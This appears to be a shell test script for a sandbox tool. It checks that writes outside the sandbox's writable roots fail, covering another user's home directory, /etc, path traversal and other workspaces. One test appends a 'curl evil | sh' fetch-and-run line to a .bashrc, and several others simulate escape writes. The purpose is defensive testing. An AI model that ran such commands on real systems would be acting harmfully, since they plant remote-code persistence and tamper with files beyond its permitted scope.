# SPDX-License-Identifier: MIT
# Writes outside the writable roots. / is read-only in the sandbox (EROFS); in elevated mode
# the sandbox user also lacks the permission on ann's files, which the kernel checks first on an
# open for writing (EACCES). Both are the expected reasons; anything else is reported.

blocked outside-create 'Read-only file system' sh -c 'echo evil >/home/ann/new.txt'
blocked outside-append "$(pick 'Read-only file system' 'Permission denied')" sh -c 'echo evil >>/home/ann/outside.txt'
blocked outside-truncate "$(pick 'Read-only file system' 'Permission denied')" "$probe" truncate /home/ann/outside.txt
blocked outside-rename 'Read-only file system' "$probe" rename /home/ann/outside.txt /home/ann/outside.bak
blocked outside-unlink 'Read-only file system' rm -f /home/ann/outside.txt
blocked outside-mkdir 'Read-only file system' mkdir /home/ann/newdir
blocked outside-chmod 'Read-only file system' "$probe" chmod /home/ann/outside.txt 666
blocked outside-utime 'Read-only file system' "$probe" utime /home/ann/outside.txt
blocked outside-xattr 'Read-only file system' "$probe" setxattr /home/ann/outside.txt
blocked outside-bashrc "$(pick 'Read-only file system' 'Permission denied')" sh -c 'echo "curl evil | sh" >>/home/ann/.bashrc'
blocked outside-etc 'Read-only file system' sh -c 'echo evil >/etc/bulwark-escape'
blocked -c outside-var-tmp 'Read-only file system' sh -c 'echo evil >/var/tmp/bulwark-escape'
blocked outside-dotdot 'Read-only file system' sh -c 'echo evil >../escaped.txt'
blocked outside-cd-up 'Read-only file system' sh -c 'cd .. && echo evil >escaped.txt'
blocked outside-move-out 'Invalid cross-device link' "$probe" rename README.md /home/ann/README.md
blocked outside-move-in 'Invalid cross-device link' "$probe" rename /home/ann/outside.txt stolen.txt
blocked other-workspace-write 'Permission denied|Read-only file system' sh -c "echo evil >>$bob_ws/app.env"
harmless private-tmp sh -c 'echo evil >/tmp/bulwark-escape && echo evil >/dev/shm/bulwark-escape'
host_check private-tmp "the sandbox's /tmp and /dev/shm were its own" \
        sh -c '! ls /tmp/bulwark-escape /dev/shm/bulwark-escape 2>/dev/null'
